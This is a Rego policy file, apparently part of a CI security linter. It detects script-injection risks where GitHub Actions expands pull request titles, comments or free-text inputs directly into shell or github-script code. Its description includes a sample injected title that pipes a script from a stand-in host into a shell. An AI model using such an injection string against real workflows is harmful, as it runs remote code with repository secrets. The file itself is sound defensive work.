# METADATA
# title: Text a stranger writes is expanded into a script
# description: >-
#   GitHub replaces `${{ }}` before the shell (or actions/github-script's JavaScript) sees the
#   script, so a pull request title such as `"; curl evil.sh | sh; echo "` becomes code that
#   runs on the runner, with the job's token and secrets. Titles, bodies, branch names,
#   comments, commit messages and wiki page names are all written by whoever opens the pull
#   request, issue or comment. The severity follows who can start the run: CRITICAL for
#   triggers that run with the base repository's secrets (`pull_request_target`,
#   `workflow_run`, `issues`, `issue_comment`, discussions), HIGH for pull requests and actions,
#   LOW otherwise. Free-text inputs (of `workflow_dispatch`, of a reusable workflow, of an
#   action) expanded the same way are reported too: LOW in a workflow, MEDIUM in an action,
#   whose inputs come from anyone's workflow; inputs typed boolean, number or choice are not.
# scope: package
# related_resources:
#   - https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
#   - https://securitylab.github.com/resources/github-actions-untrusted-input/
# custom:
#   id: GHA-001
#   severity: CRITICAL
#   recommended_action: 'Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) and use it quoted in the script (`"$TITLE"`, or `process.env.TITLE` in github-script).'
#   input:
#     selector:
#       - type: github_workflow
#       - type: github_action
#   frameworks:
#     openssf-scorecard: ["Dangerous-Workflow"]
#     nist-800-53-r5: ["SI-10"]
#     soc2: ["CC8.1"]
package rampart.github.template_injection

import rego.v1

import data.rampart.lib.github

deny contains {"msg": msg, "path": ["expressions", k], "severity": severity} if {
	some k, e in input.expressions
	where := sink(e.path)
	some ctx in e.contexts
	github.attacker_controlled(ctx)
	severity := reach
	msg := sprintf(
		"%s: `${{ %s }}` expands %s into %s%s; pass it through an environment variable instead",
		[github.at(e), e.expr, ctx, where, reason],
	)
}

# A free-text input: whoever dispatches the workflow, or calls the reusable workflow or the
# action, chooses it. LOW in a workflow (dispatching takes write access; a caller is a
# workflow of the repository or one that chose to call it), MEDIUM in an action, whose callers
# are anyone's workflows.
deny contains {"msg": msg, "path": ["expressions", k], "severity": severity} if {
	some k, e in input.expressions
	where := sink(e.path)
	some ctx in e.contexts
	name := input_name(ctx)
	free_text(name)
	severity := input_reach
	msg := sprintf(
		"%s: `${{ %s }}` expands the input `%s` into %s; whoever %s chooses it: pass it through an environment variable instead",
		[github.at(e), e.expr, name, where, chooser],
	)
}

input_name(ctx) := name if {
	some prefix in ["inputs.", "github.event.inputs."]
	startswith(ctx, prefix)
	name := split(substring(ctx, count(prefix), -1), ".")[0]
}

# Inputs typed boolean, number, choice or environment cannot carry a script.
free_text(name) if {
	not typed(name)
}

typed(name) if {
	some trigger in ["workflow_dispatch", "workflow_call"]
	type := input.on[trigger].inputs[name].type
	type in {"boolean", "number", "choice", "environment"}
}

input_reach := "MEDIUM" if input.runs

input_reach := "LOW" if not input.runs

chooser := "uses the action" if input.runs

chooser := "dispatches or calls the workflow" if not input.runs

# A step's `run:` script.
sink(path) := "a shell script" if {
	count(path) >= 2
	path[count(path) - 1] == "run"
	path[count(path) - 3] == "steps"
}

# The `script` of actions/github-script.
sink(path) := "github-script's JavaScript" if {
	count(path) >= 4
	path[count(path) - 1] == "script"
	path[count(path) - 2] == "with"
	some [step_path, step] in github.steps
	step_path == array.slice(path, 0, count(path) - 2)
	github.step_uses(step, "actions", "github-script")
}

reach := "CRITICAL" if github.privileged

reach := "HIGH" if {
	not github.privileged
	github.untrusted
}

reach := "HIGH" if input.runs

reach := "LOW" if {
	not github.privileged
	not github.untrusted
	not input.runs
}

reason := sprintf(" (a `%s` run, with the repository's secrets)", [github.privileged_trigger]) if github.privileged

reason := " (a pull request run)" if {
	not github.privileged
	github.untrusted
}

reason := "" if {
	not github.privileged
	not github.untrusted
}
